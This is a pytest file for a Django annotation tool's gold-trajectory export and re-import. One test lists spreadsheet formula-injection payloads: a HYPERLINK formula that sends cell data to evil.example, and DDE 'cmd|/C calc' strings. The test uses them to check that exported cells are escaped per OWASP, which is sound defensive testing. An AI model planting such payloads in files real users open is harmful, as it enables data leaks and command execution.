import csv

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.core.management import call_command

from annotation.models import GoldTrajectory
from accounts.roles import ANNOTATOR
from annotation.services.gold_import import import_gold_file
from tests.factories import GoldStepFactory, GoldTrajectoryFactory, TaskFactory, UserFactory

pytestmark = pytest.mark.django_db


def _steps_by_gold(annotator: str) -> list:
    golds = GoldTrajectory.objects.filter(annotator__username=annotator).order_by("task__number", "pk")
    return [
        (
            gold.task.task_id,
            [
                (s.text, s.source_label, s.action_type, s.element_role, s.element_name, s.value)
                for s in gold.steps.all()
            ],
        )
        for gold in golds
    ]


@pytest.mark.parametrize("suffix", ["xlsx", "csv", "json"])
def test_export_then_reimport_gives_the_same_steps(webarena_tasks, gold_xlsx, tmp_path, suffix, capsys):
    import_gold_file(gold_xlsx, annotator="paper", create_annotator=True)
    exported = tmp_path / f"exported.{suffix}"

    call_command("export_gold", str(exported), "--annotator", "paper")
    report = import_gold_file(exported, annotator="roundtrip", create_annotator=True)

    assert f"{exported}: 8 gold trajectories, 50 steps ({suffix})" in capsys.readouterr().out
    assert report.unplaced == [] and report.count("created") == 8
    assert _steps_by_gold("roundtrip") == _steps_by_gold("paper")
    assert sorted(len(steps) for task_id, steps in _steps_by_gold("roundtrip") if task_id == "809") == [7, 7]


def test_json_export_carries_everything_of_the_gold(tmp_path):
    task = TaskFactory(task_id="5", number=5)
    gold = GoldTrajectoryFactory(task=task, cannot_complete=True, cannot_complete_reason="Gone.", final_answer="N/A",
                                 status="submitted")
    GoldStepFactory(gold=gold, index=1, text="Click on the 'Orders' link", action_type="click",
                    element_role="link", element_name="Orders")
    path = tmp_path / "gold.json"

    call_command("export_gold", str(path), "--status", "submitted", "--task", "5")
    import_gold_file(path, annotator="copy", status="draft", create_annotator=True)

    copy = GoldTrajectory.objects.get(annotator__username="copy")
    assert (copy.cannot_complete, copy.cannot_complete_reason, copy.final_answer) == (True, "Gone.", "N/A")
    assert copy.steps.get().element_name == "Orders"


def test_export_filters(tmp_path, capsys):
    GoldStepFactory(gold=GoldTrajectoryFactory(status="approved"))
    GoldStepFactory(gold=GoldTrajectoryFactory(status="draft"))

    call_command("export_gold", str(tmp_path / "out.data"), "--format", "csv", "--status", "approved")

    lines = (tmp_path / "out.data").read_text().splitlines()
    assert len(lines) == 2 and lines[0].startswith("Task No.,Step No.,Text,Gold No.")
    assert "1 gold trajectories, 1 steps (csv)" in capsys.readouterr().out


HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted by its author",
    "'Orders' is the link to click",
]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_exported_sheets_open_as_text_and_import_back_to_the_same_text(tmp_path, fmt):
    """Formula-looking cells get a leading quote (OWASP); the importer takes it off again."""
    task = TaskFactory(task_id="-7", number=7)
    gold = GoldTrajectoryFactory(task=task, status="approved")
    for index, text in enumerate(HOSTILE_TEXTS, start=1):
        GoldStepFactory(gold=gold, index=index, text=text, source_label=f"-{index}", element_name="=1+1",
                        value="-1" if index == 1 else "@me")
    path = tmp_path / f"gold.{fmt}"

    call_command("export_gold", str(path))

    cells = _sheet_cells(path, fmt)
    texts = [cell for row in cells for cell in row if isinstance(cell, str) and cell]
    assert [text for text in texts if text[0] in "=+-@\t\r"] == []
    assert [row[2] for row in cells[1:]] == [
        "'" + text if text[0] in "=+-@" else "''=already quoted by its author" if text.startswith("'=") else text
        for text in HOSTILE_TEXTS
    ]
    if fmt == "xlsx":
        assert [row[3] for row in cells[1:]] == [1] * len(HOSTILE_TEXTS)  # numbers stay numbers
    member = UserFactory(username="copy")
    member.groups.add(Group.objects.get_or_create(name=ANNOTATOR)[0])
    import_gold_file(path, annotator="copy")
    assert _steps_by_gold("copy") == [(
        "-7",
        [(text, f"-{index}", "", "", "=1+1", "-1" if index == 1 else "@me")
         for index, text in enumerate(HOSTILE_TEXTS, start=1)],
    )]


def _sheet_cells(path, fmt: str) -> list[list]:
    if fmt == "csv":
        with path.open(newline="", encoding="utf-8") as stream:
            return list(csv.reader(stream))
    workbook = openpyxl.load_workbook(path)
    sheet = workbook.worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [list(row) for row in sheet.iter_rows(values_only=True)]
